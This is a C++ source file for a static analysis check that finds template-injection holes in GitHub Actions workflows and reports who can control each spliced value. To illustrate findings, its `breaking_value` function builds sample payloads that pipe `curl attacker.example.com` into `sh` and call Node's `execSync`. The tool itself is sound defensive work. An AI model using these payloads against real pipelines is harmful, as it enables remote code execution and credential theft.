// A value that somebody makes up, put by `${{ }}` into the text of a program before the program is
// read: it can hold commands. The repair is to pass it as a variable.
#include <algorithm>
#include <set>

#include "checks/workflow/reach.h"
#include "checks/workflow/shaped.h"
#include "checks/workflow/stake.h"
#include "checks/workflow/starts.h"

namespace muster::workflow {
namespace {

/// An expression in a program.
struct Splice {
  const Step* step = nullptr;
  std::string_view expression;
  SourceRef where;
  /// `run`, `script`
  std::string key;
  std::string_view language;
  /// The quote around it on its line, or 0.
  char quote = 0;
};

/// The worst that is known of a splice.
struct Injection {
  Shaped value;
  std::string event;
  const JobRun* run = nullptr;
  Hand by = Hand::Writer;
  bool held_back = false;
};

/// The quote that is open where the text ends.
char open_quote(std::string_view line) {
  char quote = 0;
  for (std::size_t i = 0; i < line.size(); ++i) {
    if (line[i] == '\\' && quote != '\'') {
      ++i;
    } else if (quote != 0) {
      quote = line[i] == quote ? '\0' : quote;
    } else if (line[i] == '"' || line[i] == '\'' || line[i] == '`') {
      quote = line[i];
    }
  }
  return quote;
}

/// The expressions of a program, each with its place.
void add_splices(const Step& step, const Text& program, std::string_view language,
                 const std::string& key, std::vector<Splice>& found) {
  const std::string_view whole = program.value;
  for (const std::string_view expression : expressions_of(whole)) {
    const auto at = static_cast<std::size_t>(expression.data() - whole.data());
    const std::size_t open = whole.rfind("${{", at);
    const std::size_t close = std::min(whole.find("}}", at + expression.size()), whole.size() - 2);
    const std::string_view line =
        whole.substr(0, open).substr(whole.substr(0, open).rfind('\n') + 1);
    const SourceRef where =
        key == "run" && step.run_node ? step.run_node->where(open, close + 2) : program.where;
    found.push_back({&step, expression, where, key, language, open_quote(line)});
  }
}

std::vector<Splice> splices_of(const JobRun& run) {
  std::vector<Splice> found;
  for (const Step* step : run.script->steps) {
    if (step->kind == Step::Kind::Run) {
      add_splices(*step, step->run, "shell", "run", found);
    } else if (const ProgramInput program = program_input(*step); program.text != nullptr) {
      add_splices(*step, *program.text, program.language, "script", found);
    }
  }
  return found;
}

/// Whether the conditions leave the run more than one name of a branch or tag.
bool is_ref_open(const JobRun& run, const Intent& intent, const std::string& event) {
  const auto open = reaches(run, intent, {event, "", {}, false}, {"refs/heads/*", "refs/tags/*"});
  return std::any_of(open.begin(), open.end(), [](const Reach& reach) {
    return std::any_of(reach.refs.begin(), reach.refs.end(),
                       [](const std::string& ref) { return ref.find('*') != std::string::npos; });
  });
}

/// Who really has a hand in the value under this event.
Hand hand_in(const Shaped& value, const Start& start) {
  return value.hand == Hand::Outsider ? start.by : value.hand;
}

bool is_worse_injection(const Injection& a, const Injection& b) {
  return a.by != b.by ? a.by > b.by : !a.held_back && b.held_back;
}

/// The worst that the expression can be made to hold in this run, under any of its events.
void look_at(const JobRun& run, const Splice& splice, const AuditInput& input,
             std::optional<Injection>& worst) {
  const JobRun asked = up_to(run, *splice.step);
  const auto consider = [&](Injection found) {
    if (!worst || is_worse_injection(found, *worst)) {
      worst = std::move(found);
    }
  };
  Scope scope = run.scope(input.intent(), splice.step);
  if (run.entry == nullptr) {
    for (const Shaped& value : shaped_in_expression(splice.expression, scope)) {
      consider({value, "workflow_call", &run, Hand::Writer, true});
    }
    return;
  }
  const std::string whole = "${{" + std::string(splice.expression) + "}}";
  for (const Start& start : starts_of(asked, input.intent(), input.model<Workflows>())) {
    scope.event = start.trigger->event.value;
    if (resolve(whole, scope).known) {
      continue;
    }
    for (const Shaped& value : shaped_in_expression(splice.expression, scope)) {
      const bool names_ref = value.hand == Hand::Writer && value.form == Form::Ref;
      if (!names_ref || is_ref_open(asked, input.intent(), scope.event)) {
        consider({value, scope.event, &run, hand_in(value, start), start.held_back});
      }
    }
  }
}

/// Who makes the value up, for people.
std::string hand_in_words(const Injection& found) {
  switch (found.by) {
    case Hand::Outsider:
      return "anyone who " + std::string(act_of(found.event));
    case Hand::Merged:
      return "the author of a commit that is merged";
    case Hand::Fork:
      return "anyone who " + std::string(act_of(found.event)) + " (with a token that only reads)";
    case Hand::Dispatcher:
      return found.event == "repository_dispatch" ? "whoever holds a token that may dispatch events"
                                                  : "whoever starts the workflow by hand";
    case Hand::Writer:
      break;
  }
  return found.value.form == Form::Ref ? "whoever may create a branch or tag"
                                       : "whoever has rights in the repository";
}

/// A value of this form that ends what it stands in and runs a command of its own.
std::string breaking_value(const Splice& splice, bool is_ref) {
  const std::string fetch =
      is_ref ? "curl${IFS}attacker.example.com|sh" : "curl attacker.example.com | sh";
  if (splice.language == "JavaScript") {
    const std::string quote =
        splice.quote == '`' ? "" : std::string(1, splice.quote == 0 ? ' ' : splice.quote);
    const std::string call = "require('child_process').execSync('id')";
    return splice.quote == '`' ? "${" + call + "}"
           : splice.quote == 0 ? call
                               : quote + "+" + call + "+" + quote;
  }
  if (splice.quote == '\'') {
    return "';" + fetch + ";'";
  }
  return "$(" + fetch + ")";
}

Witness injection_witness(const Splice& splice, const Injection& found) {
  return {WitnessKind::Text,
          {{"event", {found.event}},
           {"context", {found.value.name}},
           {"value", {breaking_value(splice, found.value.form == Form::Ref)}},
           {"by", {hand_in_words(found)}}}};
}

void report_injection(const Splice& splice, const Injection& found, Outcomes& out) {
  const JobRun& run = *found.run;
  const Asset asset = run.workflow->asset(*run.job, *splice.step);
  const std::string anchor(splice.expression);
  if (found.value.unknown_caller) {
    out.undecided(asset, splice.where,
                  "`" + found.value.name +
                      "` stands in the program, and what it holds is up to "
                      "workflows that call this one and are not in the repository")
        .anchor(anchor);
    return;
  }
  const Stake stake = stake_of(run);
  const std::string held = stake.in_words();
  out.fail(asset, splice.where, injection_witness(splice, found))
      .arg("job", run.job->id.value)
      .arg("context", found.value.name)
      .arg("key", splice.key)
      .arg("who", hand_in_words(found))
      .severity(severity_by_hand(found.by, found.held_back, stake))
      .anchor(anchor)
      .because(held.empty() ? "the job holds no credential that the file shows"
                            : "the job holds " + held);
}

void template_injection(const AuditInput& input, Outcomes& out) {
  for (const auto& runs : input.model<JobRuns>().by_job()) {
    std::set<std::pair<std::string, std::string_view>> seen;
    const std::size_t before = out.items().size();
    for (const Splice& splice : splices_of(*runs.front())) {
      std::optional<Injection> worst;
      for (const JobRun* run : runs) {
        look_at(*run, splice, input, worst);
      }
      if (worst && seen.emplace(splice.step->anchor(), splice.expression).second) {
        report_injection(splice, *worst, out);
      }
    }
    if (out.items().size() == before) {
      out.pass(runs.front()->asset(), runs.front()->job->id.where);
    }
  }
}

const Register kTemplateInjectionCheck{
    "workflow-template-injection", template_injection, {unreadable_workflows}};

}  // namespace
}  // namespace muster::workflow
